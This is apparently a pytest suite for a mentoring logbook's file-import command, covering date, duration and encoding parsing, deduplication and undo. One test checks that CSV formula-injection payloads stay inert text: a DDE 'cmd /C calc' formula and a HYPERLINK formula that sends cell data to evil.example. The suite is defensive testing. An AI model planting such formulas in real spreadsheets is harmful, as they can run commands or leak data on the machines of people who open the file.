"""`mentorlog import`: every sample as its description says, all or nothing, taken back without a trace."""

import json
import sqlite3
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook
from openpyxl.utils.datetime import CALENDAR_MAC_1904

from mentorlog.exchange.incoming.choices import ImportChoices
from mentorlog.exchange.incoming.source import Source
from mentorlog.host import Host
from mentorlog.model import Mentee
from mentorlog.operations.importing.import_plan import look
from mentorlog.operations.importing.take_in import take_in
from mentorlog.store import Store
from tests.cli.conftest import ANA, Run

SAMPLES = Path(__file__).parents[1] / "exchange" / "incoming" / "samples"
EXPECTED = json.loads((SAMPLES / "expected.json").read_bytes())
FORMS, GERMAN, TOGGL, CLIENTS = (
    "01_google_forms.csv",
    "02_excel_de_semicolon_bom.csv",
    "04_toggl_detailed.csv",
    "09_icf_client_log.csv",
)


def contents(host: Host) -> dict[str, list[tuple[Any, ...]]]:
    """Return every row of every table but those of the event log."""
    with sqlite3.connect(host.database) as connection:
        names = [row[0] for row in connection.execute("SELECT name FROM sqlite_schema WHERE type = 'table'")]
        tables = {
            name: sorted(connection.execute(f'SELECT * FROM "{name}"').fetchall(), key=repr)
            for name in names
            if not name.startswith("event")
        }
    connection.close()
    return tables


def fates(answer: Any) -> dict[int, str]:
    """Return what becomes of each row."""
    return {row["row"]: row["outcome"] for row in answer["rows"]}


def noticed(answer: Any) -> dict[str, str]:
    """Return what was found out about a file."""
    return {each["what"]: each["found"] for each in answer["noticed"]}


def table(folder: Path, *lines: str, encoding: str = "utf-8") -> str:
    """Write a table and return where it is."""
    path = folder / "log.csv"
    path.write_bytes("\n".join(lines).encode(encoding))
    return str(path)


def test_the_form_is_looked_at_row_by_row(year: Run) -> None:
    """One repeat, one impossible day, one to be decided, and formulas that stay text."""
    outcome = year("import", str(SAMPLES / FORMS), "--dry-run", "--json")
    answer, expected = outcome.json, EXPECTED[FORMS]
    assert outcome.code == 1
    assert noticed(answer)["encoding"].startswith(expected["encoding"])
    assert "13/11/2024" in noticed(answer)["days"]
    assert fates(answer) == {1: "new", 2: "same", 3: "new", 4: "new", 5: "rejected", 6: "undecided"}
    assert len(answer["rows"]) == expected["data_rows"]
    assert answer["rows"][4]["reasons"] == ["30/02/2025 does not exist."]
    [doubt] = answer["rows"][5]["doubts"]
    assert doubt["answers"] == ["2025-12-05", "2025-05-12"]
    assert [row["entry"]["minutes"] for row in answer["rows"] if row["outcome"] == "new"] == [60, 45, 90]
    formula = answer["rows"][3]["entry"]["private"]
    assert formula.startswith("@SUM(1+1)*cmd|' /C calc'!A0")
    assert '=HYPERLINK("http://evil.example/?x="&A1,"Tom")' in formula


def test_nothing_is_taken_in_before_all_is_decided(year: Run, host: Host) -> None:
    """Then all of it, the row that was asked about among it."""
    before = contents(host)
    refused = year("import", str(SAMPLES / FORMS), "--yes")
    assert refused.code == 2
    assert "Row 6: 05/12/2025" in refused.err
    assert contents(host) == before
    taken = year("import", str(SAMPLES / FORMS), "--yes", "--json", "--answer", "6:day=2025-05-12")
    assert taken.json["counts"] == {"new": 4, "rejected": 1, "same": 1}
    assert len(year("meetings", "--json").json) == 4
    assert {meeting["batch"] for meeting in year("meetings", "--json").json} == {taken.json["batch"]["id"]}
    left_out = year("import", str(SAMPLES / FORMS), "--dry-run", "--skip", "undecided")
    assert left_out.code == 0


def test_a_german_table_is_read_as_it_is_meant(year: Run) -> None:
    """Decimal commas, a meeting over midnight, empty rows and a sum."""
    answer, expected = year("import", str(SAMPLES / GERMAN), "--dry-run", "--json").json, EXPECTED[GERMAN]
    assert noticed(answer)["encoding"].startswith(expected["encoding"])
    assert noticed(answer)["between cells"].startswith("semicolon")
    assert len(answer["rows"]) == expected["logical_records_after_header"]
    new = [row["entry"] for row in answer["rows"] if row["outcome"] == "new"]
    assert [entry["minutes"] for entry in new] == expected["minutes"]
    assert answer["minutes"] == 300
    assert [entry["kind"] for entry in new] == ["one_to_one", "one_to_one", "call", "group"]
    assert [entry["start"] for entry in new] == ["14:00", "16:00", "23:30", None]
    assert [(row["outcome"], row["reasons"][0]) for row in answer["rows"][4:]] == [
        ("rejected", "31-11-2024 does not exist."),
        ("skipped", "The row is empty."),
        ("skipped", "It is a total: 6,00."),
        ("skipped", "The row is empty."),
    ]


def test_a_time_sheet_is_filtered_by_client(year: Run) -> None:
    """Of four rows one is a repeat and one took no time; a timer that nobody stopped is asked about."""
    options = ("--dry-run", "--json", "--others", "1")
    answer = year("import", str(SAMPLES / TOGGL), "--client", "Peer mentoring 24/25", *options).json
    assert fates(answer) == {1: "new", 2: "new", 3: "same", 4: "skipped", 5: "new", 6: "skipped"}
    new = [row["entry"]["minutes"] for row in answer["rows"] if row["outcome"] == "new"]
    assert new == [round(minutes) for minutes in EXPECTED[TOGGL]["minutes"]]
    assert "It took no time." in answer["rows"][4]["reasons"]
    all_of_it = year("import", str(SAMPLES / TOGGL), *options).json
    assert "47:10:00" in all_of_it["rows"][3]["reasons"][0]


def test_a_client_log_brings_hours_forward_and_no_meetings(year: Run, host: Host) -> None:
    """A group that is too large is pointed out, the sum is no client, and nothing is kept of anybody."""
    path = str(SAMPLES / CLIENTS)
    asked = year("import", path, "--dry-run", "--json")
    assert asked.code == 1
    assert "No rule of Five meetings a year adds up time" in asked.json["doubts"][0]
    assert "consent withheld" not in asked.out
    year("programme", "use", "emcc-eia-f", "--from", "2025-09-01", "--to", "2026-06-30")
    rule, before = asked_rule(year, path), contents(host)
    taken = year("import", path, "--yes", "--json", "--requirement", rule)
    assert fates(taken.json) == {1: "new", 2: "new", 3: "rejected", 4: "skipped"}
    assert taken.json["minutes"] == 60 * EXPECTED[CLIENTS]["eligible_paid_hours_if_group_max_15"]
    assert "22 is over 15" in taken.json["rows"][2]["reasons"][0]
    assert year("meetings", "--json").json == []
    after = repr(contents(host))
    assert all(each not in after for each in ("consent withheld", "Client 01", "lead@example.org"))
    again = year("import", path, "--yes", "--json", "--requirement", rule)
    assert again.json["batch"] is None
    assert year("import", "--undo", taken.json["batch"]["id"], "--yes").code == 0
    assert contents(host) == before


def asked_rule(run: Run, path: str) -> str:
    """Return a rule that hours can count for, as the question names it."""
    [doubt] = run("import", path, "--dry-run", "--json").json["doubts"]
    return str(doubt).partition("--requirement ")[2].split()[0].strip(".,")


@pytest.mark.parametrize("name", [FORMS, GERMAN, TOGGL])
def test_the_same_file_twice_adds_nothing_and_undo_leaves_no_trace(year: Run, host: Host, name: str) -> None:
    """Both ways of undoing: as the last change, and later by the batch."""
    options = ("--yes", "--json", "--skip", "undecided", "--others", "1", "--client", "*")
    before = contents(host)
    first = year("import", str(SAMPLES / name), *options).json
    assert first["batch"]["entries"] == first["counts"]["new"] > 0
    there = contents(host)
    second = year("import", str(SAMPLES / name), *options).json
    assert second["batch"] is None
    assert "new" not in second["counts"]
    assert "taken in on" in noticed(second)["before"]
    assert contents(host) == there
    assert year("undo", "--yes").code == 0
    assert contents(host) == before
    assert year("redo", "--yes").code == 0
    there = contents(host)
    year("log", "2026-03-10 45m with M-03")
    meanwhile = contents(host)
    assert year("import", "--undo", first["batch"]["id"], "--yes").code == 0
    assert year("import", "--list", "--json").json == []
    left = contents(host)
    assert left["meeting"] == [row for row in meanwhile["meeting"] if row not in there["meeting"]]
    assert left["batch"] == []


def test_a_batch_that_was_worked_with_is_taken_back_with_care(year: Run, tmp_path: Path) -> None:
    """What was changed since is named, and what others refer to is not taken from under them."""
    path = table(tmp_path, "Date,Minutes,Mentee", "2026-03-01,45,Zoe", "2026-03-02,30,M-01")
    taken = year("import", path, "--yes", "--json", "--add-people").json
    assert [mentee["name"] for mentee in year("mentees", "--json").json][-1] == "Zoe"
    first, second = (meeting["id"] for meeting in year("meetings", "--json").json)
    year("meetings", "edit", first, "50m")
    year("log", "2026-03-10 45m with Zoe")
    year("reflect", "It went well.", "--meeting", second)
    blocked = year("import", "--undo", taken["batch"]["id"], "--yes")
    assert blocked.code == 2
    assert "1 entry refer" in blocked.err or "1 entr" in blocked.err
    year("reflections", "delete", year("reflections", "--json").json[0]["id"])
    undone = year("import", "--undo", taken["batch"]["id"], "--yes", "--json").json
    assert undone["removed"] == 2
    assert len(undone["edited"]) == 1
    assert len(undone["kept"]) == 1
    assert len(year("meetings", "--json").json) == 1


@pytest.mark.parametrize(
    ("days", "option", "first"),
    [
        (("03/04/2026", "05/06/2026"), "dmy", "2026-04-03"),
        (("03/04/2026", "05/06/2026"), "mdy", "2026-03-04"),
    ],
)
def test_the_order_of_dates_is_asked_when_nothing_proves_it(
    year: Run, tmp_path: Path, days: tuple[str, str], option: str, first: str
) -> None:
    """It is never taken from a setting or the machine."""
    path = table(tmp_path, "Date,Minutes,Mentee", *(f"{day},45,M-01" for day in days))
    asked = year("import", path, "--dry-run", "--json")
    assert asked.code == 1
    assert "--dates" in asked.json["doubts"][0]
    assert year("import", path, "--yes").code == 2
    answer = year("import", path, "--dry-run", "--json", "--dates", option).json
    assert answer["rows"][0]["entry"]["day"] == first


def test_dates_that_contradict_each_other_are_asked_about(year: Run, tmp_path: Path) -> None:
    """Both are named; those that do not fit the order that is chosen are rejected."""
    path = table(tmp_path, "Date,Minutes,Mentee", "31/01/2026,45,M-01", "01/31/2026,45,M-03")
    assert "31/01/2026" in year("import", path, "--dry-run", "--json").json["doubts"][0]
    assert fates(year("import", path, "--dry-run", "--json", "--dates", "dmy").json) == {
        1: "new",
        2: "rejected",
    }


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp1252"])
def test_the_encoding_is_found_and_can_be_chosen(year: Run, tmp_path: Path, encoding: str) -> None:
    """By its mark, because it is UTF-8, or as what older programs wrote."""
    lines = ("Datum;Minuten;Mentee;Notizen", "2.3.2026;45;M-01;Übung – schön", "3.3.2026;30;M-03;Größe")
    path = table(tmp_path, *lines, encoding=encoding)
    for options in ((), ("--encoding", encoding, "--delimiter", "semicolon")):
        answer = year("import", path, "--dry-run", "--json", *options).json
        assert [row["entry"]["private"] for row in answer["rows"]] == ["Übung – schön", "Größe"], answer
    assert year("import", path, "--encoding", "klingon", "--dry-run").code == 2


def test_letters_of_other_scripts_are_told_apart(year: Run, tmp_path: Path) -> None:
    """Cyrillic is no Latin text with accents, though every byte would be a letter there too."""
    words = "Разговор о подготовке к экзамену и о расписании занятий на следующую неделю"
    path = table(tmp_path, "Date,Minutes,Mentee,Notes", f"2026-03-02,45,M-01,{words}", encoding="cp1251")
    answer = year("import", path, "--dry-run", "--json").json
    assert answer["rows"][0]["entry"]["private"] == words
    assert "cp1251" in noticed(answer)["encoding"]


@pytest.mark.parametrize(
    ("heading", "cell", "minutes"),
    [
        ("Duration", "1h30", 90),
        ("Duration", "90 mins", 90),
        ("Dauer (Std.)", "1,5", 90),
        ("Dauer", "1 Std. 30 Min.", 90),
        ("Duration", "01:29:31", 90),
        ("Minutes", "90", 90),
        ("Hours", "1.5", 90),
        ("Duration", "an hour and a half", 90),
        ("Durée", "1,5", 90),
    ],
)
def test_lengths_are_read_as_they_are_written(
    year: Run, tmp_path: Path, heading: str, cell: str, minutes: int
) -> None:
    """With words, colons, points and commas, in the unit of their column."""
    path = table(tmp_path, f"Date\t{heading}\tMentee", f"2026-03-02\t{cell}\tM-01")
    answer = year("import", path, "--dry-run", "--json").json
    assert answer["rows"][0]["entry"]["minutes"] == minutes, answer


def test_what_bare_numbers_count_is_asked_when_nothing_proves_it(year: Run, tmp_path: Path) -> None:
    """Two may be hours or minutes."""
    path = table(tmp_path, "Date,Duration,Mentee", "2026-03-02,2,M-01")
    assert '--map "Duration"=hours' in year("import", path, "--dry-run", "--json").json["doubts"][0]
    answer = year("import", path, "--dry-run", "--json", "--map", "Duration=hours").json
    assert answer["rows"][0]["entry"]["minutes"] == 120


@pytest.mark.parametrize(
    ("cell", "answers"), [("0,5", ["30", "1"]), ("1.5", ["90", "2"]), ("12,25", ["735", "12"])]
)
def test_parts_of_hours_under_minutes_are_asked_about(
    year: Run, tmp_path: Path, cell: str, answers: list[str]
) -> None:
    """Nobody writes down half a minute; who says that the column has minutes is believed."""
    path = table(tmp_path, "Date\tMinutes\tMentee", f"2026-03-02\t{cell}\tM-01")
    [row] = year("import", path, "--dry-run", "--json").json["rows"]
    assert [(each["field"], each["answers"]) for each in row["doubts"]] == [("minutes", answers)]
    for unit, minutes in zip(("hours", "minutes"), answers, strict=True):
        answer = year("import", path, "--dry-run", "--json", "--map", f"Minutes={unit}").json
        assert answer["rows"][0]["entry"]["minutes"] == int(minutes), unit


def test_days_that_are_numbers_count_from_the_day_that_their_workbook_has(year: Run, tmp_path: Path) -> None:
    """Excel on a Mac began in 1904: the same number is four years and a day later there."""
    book = Workbook()
    book.epoch = CALENDAR_MAC_1904
    sheet = book.worksheets[0]
    number = (date(2026, 3, 2) - date(1904, 1, 1)).days
    for row in (("Date", "Minutes", "Mentee"), (number, 45, "M-01")):
        sheet.append(row)
    path = tmp_path / "mac.xlsx"
    book.save(path)
    answer = year("import", str(path), "--dry-run", "--json").json
    assert answer["rows"][0]["entry"]["day"] == "2026-03-02", answer


def test_columns_are_remembered_for_the_next_table_like_it(year: Run, host: Host, tmp_path: Path) -> None:
    """Only what was said, and only for these headings; what is broken says nothing."""
    lines = ("A,B,C", "2026-03-02,45,M-01")
    path = table(tmp_path, *lines)
    assert "No column is known to hold the day" in year("import", path, "--dry-run").out
    mapping = ("--map", "A=day", "--map", "B=minutes", "--map", "C=people")
    assert year("import", path, "--yes", *mapping).code == 0
    path = table(tmp_path, lines[0], "2026-03-03,30,M-03")
    answer = year("import", path, "--dry-run", "--json").json
    assert fates(answer) == {1: "new"}
    assert "before" in noticed(answer)["columns"]
    assert host.import_columns.stat().st_mode & 0o777 == 0o600
    host.import_columns.write_text("[[[")
    assert year("import", path, "--dry-run", "--json").json["doubts"] != []


def test_people_are_matched_asked_about_or_counted(year: Run, tmp_path: Path) -> None:
    """By pseudonym and by name; a name that is nearly one is asked about, and anybody else is an other."""
    year("mentees", "edit", "M-01", "--name", "Amina Khan")
    rows = ("M-01", "amina khan", "Amina", "Amina Khann", "Somebody Else", f"{ANA}; M-03")
    lines = [f"2026-03-{day:02},45,{who}" for day, who in enumerate(rows, 1)]
    path = table(tmp_path, "Date,Minutes,Mentee", *lines)
    answer = year("import", path, "--dry-run", "--json").json
    assert fates(answer) == {1: "new", 2: "new", 3: "undecided", 4: "undecided", 5: "new", 6: "new"}
    assert answer["unknown_people"] == {"Somebody Else": 1}
    assert answer["rows"][4]["entry"]["others"] == 1
    assert "With Somebody Else." in answer["rows"][4]["entry"]["private"]
    assert len(answer["rows"][5]["entry"]["mentees"]) == 2
    said = ("--person", "Amina=M-01", "--person", "Amina Khann=", "--person", "Somebody Else=new")
    taken = year("import", path, "--yes", "--json", *said).json
    assert taken["counts"] == {"new": 6}
    assert [mentee["name"] for mentee in year("mentees", "--json").json][-1] == "Somebody Else"
    assert year("import", path, "--dry-run", "--person", "Amina=Nobody").code == 2


@pytest.mark.parametrize("sign", ["\u202e", "\x07", "\u2066"])
def test_names_with_signs_that_change_how_they_look_are_refused(year: Run, tmp_path: Path, sign: str) -> None:
    """The row is rejected, and the sign is named and never printed."""
    path = table(tmp_path, "Date,Minutes,Mentee", f"2026-03-02,45,An{sign}a")
    outcome = year("import", path, "--dry-run")
    assert f"U+{ord(sign):04X}" in outcome.out
    assert sign not in outcome.out
    assert fates(year("import", path, "--dry-run", "--json").json) == {1: "rejected"}


def test_what_is_nearly_there_already_is_asked_about(year: Run, tmp_path: Path) -> None:
    """The same time with the same person in other words; it can be taken in all the same."""
    year("log", "2026-03-02 14:00 45m with M-01 about exams")
    path = table(
        tmp_path,
        "Date,Start,Minutes,Mentee,Topic",
        "2026-03-02,14:00,45,M-01,Prüfung",
        "2026-03-02,09:00,45,M-01,",
    )
    answer = year("import", path, "--dry-run", "--json").json
    assert fates(answer) == {1: "alike", 2: "new"}
    assert fates(year("import", path, "--dry-run", "--json", "--take", "1").json) == {1: "new", 2: "new"}
    assert fates(year("import", path, "--dry-run", "--json", "--skip", "1").json) == {1: "skipped", 2: "new"}


@pytest.mark.parametrize(
    "headings",
    [
        "Wann hast du dich getroffen?;Wie lange (Minuten);Mit wem?;Worüber?",
        "Date de la rencontre;Combien de temps ?;Avec qui ?;Sujets abordés",
        "Fecha de la reunión;¿Cuánto tiempo?;¿Con quién?;Temas tratados",
        "When did you meet?;How long did you meet?;With whom?;About",
    ],
)
@pytest.mark.parametrize("length", ["90 min", "1 h 30", "1 Std. 30", "1 heure 30 minutes"])
def test_questions_of_a_form_are_columns(year: Run, tmp_path: Path, headings: str, length: str) -> None:
    """As people ask them; a length is written as their language writes it."""
    path = table(tmp_path, headings, f"13.02.2026;{length};M-01;sleep")
    [row] = year("import", path, "--dry-run", "--json").json["rows"]
    assert (row["outcome"], row["reasons"]) == ("new", [])
    assert (row["entry"]["minutes"], row["entry"]["topics"]) == (90, ["sleep"])


@pytest.mark.parametrize("day", ["2026-03-01", "1/3/2026", "1 March 2026 14:00"])
def test_a_table_without_headings_loses_no_row(year: Run, tmp_path: Path, day: str) -> None:
    """Its columns have numbers, by which they are mapped."""
    path = table(tmp_path, f"M-01,{day},45,sleep", "M-02,2026-03-13,45,exams,and more")
    said = (
        "--map",
        "column 2=day",
        "--map",
        "column 3=minutes",
        "--map",
        "column 1=people",
        "--dates",
        "dmy",
    )
    answer = year("import", path, "--dry-run", "--json", "--others", "1", *said).json
    assert noticed(answer)["headings"] == "none: the first row has a day, as the others have"
    assert [row["entry"]["day"] for row in answer["rows"]] == ["2026-03-01", "2026-03-13"]


@pytest.mark.parametrize(
    ("day", "start", "comes_in"),
    [
        ("2026-03-02T23:30:00Z", "", "2026-03-03 07:30"),
        ("2026-03-02 09:05Z", "", "2026-03-02 17:05"),
        ("2026-03-02T23:30:00.250z", "", "2026-03-03 07:30"),
        ("2026-03-02T23:30:00+02:00", "", "2026-03-03 05:30"),
        ("2026-03-02", "0905", "2026-03-02 09:05"),
        ("2026-03-02", "0905 - 0950", "2026-03-02 09:05"),
        ("2026-03-02", "2460", ""),
    ],
)
def test_times_are_read_as_programs_and_wards_write_them(
    year: Run, tmp_path: Path, day: str, start: str, comes_in: str
) -> None:
    """In the zone of the logbook, from any other; four digits are a time where a time stands."""
    path = table(tmp_path, "Date,Start,Minutes,Mentee", f"{day},{start},45,M-01")
    [row] = year("import", path, "--dry-run", "--json").json["rows"]
    assert (row["outcome"] == "new") == bool(comes_in)
    if comes_in:
        assert f"{row['entry']['day']} {row['entry']['start']}" == comes_in


def test_it_is_said_in_every_line_what_was_not_held(year: Run, tmp_path: Path) -> None:
    """Who looks at the list would take it for a meeting that counts."""
    path = table(
        tmp_path,
        "Date,Minutes,Mentee,Status",
        "2026-03-02,45,M-01,cancelled",
        "2026-03-03,45,M-01,no show",
        "2026-05-04,45,M-01,",
        "2026-03-05,45,M-01,held",
    )
    shown = [line for line in year("import", path, "--dry-run").out.splitlines() if "one-to-one" in line]
    assert ["cancelled" in shown[0], "no-show" in shown[1], "planned, one" in shown[2]] == [True] * 3
    assert ", 45 min, one-to-one" in shown[3]


def test_those_who_become_mentees_are_told_apart(year: Run, tmp_path: Path) -> None:
    """Who has a name gets no code that the file has for somebody else; one in other letters is one person."""
    path = table(
        tmp_path,
        "Date,Minutes,Mentee",
        "2026-03-02,45,Bob Qureshi",
        "2026-03-03,45,M-02",
        "2026-03-04,45,m-02",
        "2026-03-05,45,bob qureshi",
        "2026-03-06,45,M-03",
    )
    assert year("import", path, "--yes", "--add-people").code == 0
    mentees = {(each["pseudonym"], each["name"]) for each in year("mentees", "--json").json}
    assert {each for each in mentees if each[0] != "M-01" and "Ana" not in each[0]} == {
        *(("M-02", ""), ("M-03", ""), ("M-04", "Bob Qureshi"))
    }


def test_the_same_command_once_more_adds_nothing(year: Run, tmp_path: Path) -> None:
    """What only looked like another is there word for word by then; so is what the file itself has twice."""
    year("log", "2026-03-02 14:00 45m with M-01 about exams")
    path = table(
        tmp_path,
        "Date,Start,Minutes,Mentee,Topic",
        "2026-03-02,14:00,45,M-01,Prüfung",
        "2026-03-03,09:00,45,M-01,",
        "2026-03-03,09:00,45,M-01,",
    )
    command = ("import", path, "--yes", "--json", "--take", "1,3")
    assert fates(year(*command).json) == {1: "new", 2: "new", 3: "new"}
    assert fates(year(*command).json) == {1: "same", 2: "same", 3: "same"}


def test_a_row_that_is_to_come_is_planned(year: Run, tmp_path: Path) -> None:
    """The clock of the host says what is to come."""
    path = table(tmp_path, "Date,Minutes,Mentee", "2026-05-02,45,M-01")
    answer = year("import", path, "--dry-run", "--json").json
    assert answer["rows"][0]["entry"]["status"] == "planned"


@pytest.mark.parametrize(
    ("lines", "said"),
    [
        (("Date,Minutes,Mentee", '2026-03-02,45,"M-01'), "quotation mark is not closed"),
        (("Date,Minutes,Mentee", ",".join("x" * 300)), "300 cells"),
        (("Date,Minutes,Mentee", f"2026-03-02,45,{'x' * 100_001}"), "more than 100,000 characters"),
    ],
)
def test_what_is_no_table_is_refused_in_a_sentence(
    year: Run, host: Host, tmp_path: Path, lines: tuple[str, ...], said: str
) -> None:
    """With its line, and nothing is changed."""
    before = contents(host)
    outcome = year("import", table(tmp_path, *lines), "--yes", "--format", "csv")
    assert outcome.code == 2
    assert said in outcome.err
    assert "line " in outcome.err
    assert contents(host) == before


def test_cells_out_of_line_and_odd_rows_are_rejected_one_by_one(year: Run, tmp_path: Path) -> None:
    """Each says why; the others are taken in."""
    path = table(
        tmp_path,
        "Date,Start,End,Minutes,Mentee,Type",
        "2026-03-02,14:00,15:00,60,M-01,one to one",
        "2026-03-03,14:00,15:00,60,M-01,one to one,too much",
        ",14:00,15:00,60,M-01,one to one",
        "soon,14:00,15:00,60,M-01,one to one",
        "2026-03-04,25:00,,60,M-01,one to one",
        "2026-03-05,14:00,15:00,90,M-01,one to one",
        "2026-03-06,14:00,15:00,,M-01,flurb",
        "2026-03-07,,,,M-01,one to one",
        "Date,Start,End,Minutes,Mentee,Type",
    )
    answer = year("import", path, "--dry-run", "--json").json
    assert fates(answer) == {
        1: "new",
        2: "rejected",
        3: "rejected",
        4: "rejected",
        5: "rejected",
        6: "undecided",
        7: "undecided",
        8: "undecided",
        9: "skipped",
    }
    answers = (
        "--answer",
        "6:minutes=60",
        "--answer",
        "7:kind=group",
        "--answer",
        "7:others=3",
        "--minutes",
        "1h",
    )
    decided = year("import", path, "--dry-run", "--json", *answers).json
    assert [decided["rows"][place]["outcome"] for place in (5, 6, 7)] == ["new"] * 3
    assert decided["rows"][7]["entry"]["minutes"] == 60
    wrong = year("import", path, "--dry-run", "--answer", "6:colour=red")
    assert wrong.code == 2
    assert "no field colour" in wrong.err


def test_the_dry_run_says_the_same_in_words(year: Run) -> None:
    """A line for each row, the reasons, the people and the counts."""
    out = year("import", str(SAMPLES / FORMS), "--dry-run").out
    assert "rejected" in out
    assert "30/02/2025 does not exist." in out
    assert "6 rows: 3 new (3 h 15 min), 1 there already, 1 to be decided, 1 rejected." in out
    assert "--add-people" in out


def test_import_needs_a_yes_where_nobody_can_be_asked(year: Run) -> None:
    """What is read was interpreted, so somebody has to agree."""
    outcome = year("import", str(SAMPLES / GERMAN))
    assert outcome.code == 2
    assert "--yes" in outcome.err
    assert year("import").code == 2


@pytest.fixture
def quicker(host: Host, monkeypatch: pytest.MonkeyPatch) -> Callable[[Callable[[Store], object]], None]:
    """Let another process do something once, after a file was looked at and before it is taken in."""

    def quicker(do: Callable[[Store], object]) -> None:
        waiting, copied = [do], Store.back_up

        def back_up(self: Store, why: str) -> object:
            if waiting:
                other_does = waiting.pop()
                with Store(host, again=True) as other:
                    other_does(other)
            return copied(self, why)

        monkeypatch.setattr(Store, "back_up", back_up)

    return quicker


def test_the_same_file_at_once_comes_in_once(
    year: Run, host: Host, tmp_path: Path, quicker: Callable[[Callable[[Store], object]], None]
) -> None:
    """The slower one looks again, and finds that there is nothing new."""
    path = table(tmp_path, "Date,Minutes,Mentee", "2026-03-01,30,M-01", "2026-03-02,45,M-03")
    today = date(2026, 3, 11)

    def take_it_in(other: Store) -> None:
        choices = ImportChoices(zone=other.zone(), until=today)
        take_in(other, look(other, Source(Path(path)), choices, today), today)

    quicker(take_it_in)
    outcome = year("import", path, "--yes")
    assert outcome.code == 0
    assert "There is nothing new in log.csv. 2 rows: 2 there already." in outcome.out
    assert len(year("meetings", "--json").json) == 2


def test_another_change_at_once_is_looked_at_before_a_file_comes_in(
    year: Run, host: Host, tmp_path: Path, quicker: Callable[[Callable[[Store], object]], None]
) -> None:
    """Whom the file names became a mentee meanwhile, so the meeting is with that mentee."""
    path = table(tmp_path, "Date,Minutes,Mentee", "2026-03-01,30,M-07")
    quicker(lambda other: other.add(Mentee(id=host.new_id(), pseudonym="M-07")))
    assert year("import", path, "--yes").code == 0
    [meeting] = year("meetings", "--json").json
    assert len(meeting["mentees"]) == 1
